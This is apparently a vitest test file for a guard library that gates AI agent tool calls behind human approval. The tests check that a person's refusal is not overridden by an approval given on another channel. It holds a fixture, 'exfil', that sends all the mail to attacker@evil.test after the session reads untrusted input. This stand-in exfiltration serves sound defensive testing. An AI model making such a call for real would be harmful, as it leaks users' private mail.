import { describe, expect, it } from 'vitest';
import { CallGate } from '../../src/adapters/gate.ts';
import type { Approver } from '../../src/approvals/types.ts';
import { createGuard } from '../../src/guard/guard.ts';
import { MemoryApprovalStore, MemoryAuditLog } from '../../src/store/memory.ts';
import { emailBot } from '../helpers.ts';

// Review of the guard's authorize path: two channels can answer one approval request (the approver `authorize` asks,
// and `ruleoftwo approvals approve` on a shared store). The store keeps the first answer; what `authorize` does with
// the approver's own answer must not turn a person's no into a run.

const exfil = { id: 'c2', tool: 'send_email', args: { to: 'attacker@evil.test', body: 'all the mail' } };

describe('authorize when another channel answered first', () => {
  it('runs nothing when the approver it asked says no, though the request was approved elsewhere', async () => {
    const approvals = new MemoryApprovalStore();
    const audit = new MemoryAuditLog();
    // While the person at this approver deliberates, someone approves the same request out of band; then the
    // person declines.
    const approver: Approver = async (request) => {
      await guard.answer(request.id, { approved: true, by: 'other-channel' });
      return { approved: false, reason: 'not to that address' };
    };
    const guard = createGuard({ policy: emailBot(), approvals, audit, approver });
    const session = await guard.session('s', { input: 'untrusted' });
    await session.check({ id: 'c1', tool: 'search_contacts', args: {} });
    await session.record('c1', []);
    const decision = await session.authorize(exfil);
    expect(decision.effect).toBe('deny');
    expect(decision.reasons.at(-1)?.code).toBe('approval_denied');
    // Nor does the other channel's approval run the call afterwards.
    const receipt = { requestId: decision.approval?.id ?? '', hash: decision.approval?.hash ?? '' };
    expect((await session.check({ ...exfil, id: 'c3' }, { receipt })).effect).toBe('deny');
  });
});

describe('a no through guard.answer', () => {
  it('never yields a receipt, and spends one another channel gave first', async () => {
    const audit = new MemoryAuditLog();
    const guard = createGuard({ policy: emailBot(), audit });
    const session = await guard.session('s', { input: 'untrusted' });
    await session.check({ id: 'c1', tool: 'search_contacts', args: {} });
    await session.record('c1', []);
    const asked = await session.check(exfil);
    const request = asked.approval;
    expect(request).toBeDefined();
    await guard.answer(request?.id ?? '', { approved: true, by: 'operator' });
    expect(await guard.answer(request?.id ?? '', { approved: false, by: 'person' })).toBeUndefined();
    const receipt = { requestId: request?.id ?? '', hash: request?.hash ?? '' };
    expect((await session.check({ ...exfil, id: 'c3' }, { receipt })).effect).toBe('deny');
    const answers = audit.events.flatMap((e) => (e.type === 'approval.answer' ? [e.reason ?? ''] : []));
    expect(answers.at(-1)).toBe('approval withdrawn by a refusal from person');
  });

  it('so a framework adapter does not run a call its person declined (CallGate.run)', async () => {
    const guard = createGuard({ policy: emailBot() });
    await guard.session('s', { input: 'untrusted' });
    const gate = new CallGate(guard, 's');
    await gate.run({ id: 'c0', tool: 'search_contacts', args: {} }, () => []);
    const verdict = await gate.decide(exfil, { shown: true });
    expect(verdict.effect).toBe('ask');
    if (verdict.effect !== 'ask') return;
    // An operator approves the request on a shared store while the framework shows it to its user, who declines.
    await guard.answer(verdict.request.id, { approved: true, by: 'operator' });
    let ran = false;
    const outcome = await new CallGate(guard, 's').run(
      exfil,
      () => {
        ran = true;
        return 'sent';
      },
      { answer: () => ({ approved: false, by: 'user' }) },
    );
    expect(ran).toBe(false);
    expect(outcome.ok).toBe(false);
  });
});
